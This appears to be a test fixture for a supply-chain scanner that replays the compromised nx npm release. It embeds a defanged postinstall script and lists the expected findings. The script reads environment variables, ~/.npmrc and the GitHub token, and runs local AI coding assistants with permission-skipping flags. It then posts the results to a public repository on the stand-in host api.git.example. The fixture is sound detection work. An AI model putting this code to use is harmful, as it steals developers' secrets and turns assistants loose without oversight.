import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

/** Looks, asks and would upload, to a host that does not exist; the words that it gives to assistants ask for nothing. */
const telemetry = `#!/usr/bin/env node

const { spawnSync } = require('child_process')
const fs = require('fs')
const https = require('https')
const { homedir, hostname } = require('os')
const { join } = require('path')

if (process.platform === 'win32') process.exit(0)

const wish = 'Inert: list nothing and write nothing.'
const assistants = [
  ['claude', '--dangerously-skip-permissions', '-p', wish],
  ['gemini', '--yolo', '-p', wish],
]

const gathered = { environment: process.env, machine: hostname(), answers: [] }

function ask(program, ...words) {
  const { status, stdout } = spawnSync(program, words, { encoding: 'utf8', timeout: 60000 })
  return status === 0 ? stdout.trim() : undefined
}

for (const [program, ...words] of assistants) gathered.answers.push(ask(program, ...words))
const token = ask('gh', 'auth', 'token')

const settings = join(homedir(), '.npmrc')
if (fs.existsSync(settings)) gathered.settings = fs.readFileSync(settings, 'utf8')

function put(path, method, body) {
  const headers = { authorization: 'token ' + token, 'user-agent': 'inert' }
  const request = https.request({ hostname: 'api.git.example', path, method, headers })
  request.on('error', () => {})
  request.end(JSON.stringify(body))
}

if (token) {
  const content = Buffer.from(JSON.stringify(gathered)).toString('base64')
  put('/user/repos', 'POST', { name: 'inert-repository', private: false })
  put('/repos/inert/inert-repository/contents/results.txt', 'PUT', { content })
}

for (const name of ['.bashrc', '.zshrc']) {
  fs.appendFile(join(homedir(), 'no-such-folder', name), '# a line that shuts the machine down stood here', () => {})
}
`

const notice = "console.log('Thanks. Telemetry can be turned off in nx.json.')\n"

const inTelemetry = {
  file: 'telemetry.js',
  line: 'const gathered = { environment: process.env, machine: hostname(), answers: [] }',
} as const
const alsoInTelemetry = {
  file: 'telemetry.js',
  line: "const request = https.request({ hostname: 'api.git.example', path, method, headers })",
} as const

/** By the project's own workflow, of which the stolen token knew nothing. */
const built = { repository: 'nrwl/nx', workflow: '.github/workflows/publish.yml', ref: 'refs/heads/master' }

export const replay: Replay = replayUpgrade({
  description:
    'A stolen token released nx with a script after installation that gathered the environment, the npm settings and the GitHub token of ' +
    'whoever installed it, had assistants on the machine look for more without asking, and put it all into a public repository. ' +
    'Two lines came out within minutes, and without the provenance that releases had had.',
  date: '2025-08-26',
  reviewedAt: '2025-08-27T08:00:00Z',
  name: 'nx',
  from: [
    '21.4.1',
    {
      manifest: { scripts: { postinstall: 'node notice.js' } },
      files: { 'index.js': compiledQueue, 'notice.js': notice },
      published: '2025-08-21T15:00:00Z',
      provenance: built,
    },
  ],
  to: [
    '21.5.0',
    {
      manifest: { scripts: { postinstall: 'node telemetry.js' } },
      files: { 'index.js': compiledQueue, 'telemetry.js': telemetry },
      published: '2025-08-26T22:32:00Z',
    },
  ],
  beside: {
    '20.8.2': { files: { 'index.js': compiledQueue }, published: '2025-06-12T15:00:00Z', provenance: built },
    '20.9.0': { files: { 'index.js': compiledQueue, 'telemetry.js': telemetry }, published: '2025-08-26T22:39:00Z' },
  },
  findings: [
    ['combined-risk', 'critical'],
    ['install-script-dangerous', 'critical', inTelemetry],
    ['secrets-exfiltrated', 'critical', inTelemetry],
    [
      'secrets-harvested',
      'critical',
      {
        file: 'telemetry.js',
        line: "if (fs.existsSync(settings)) gathered.settings = fs.readFileSync(settings, 'utf8')",
      },
    ],
    [
      'self-propagation',
      'critical',
      { file: 'telemetry.js', line: "put('/user/repos', 'POST', { name: 'inert-repository', private: false })" },
    ],
    ['beacon-added', 'high', alsoInTelemetry],
    [
      'capability-added',
      'high',
      {
        file: 'telemetry.js',
        line: "const { status, stdout } = spawnSync(program, words, { encoding: 'utf8', timeout: 60000 })",
      },
    ],
    ['install-script-changed', 'medium', { file: 'package.json' }],
    ['network-host-added', 'medium', alsoInTelemetry],
    ['provenance-lost', 'high'],
    ['release-burst', 'high'],
    ['release-fresh', 'medium'],
  ],
})
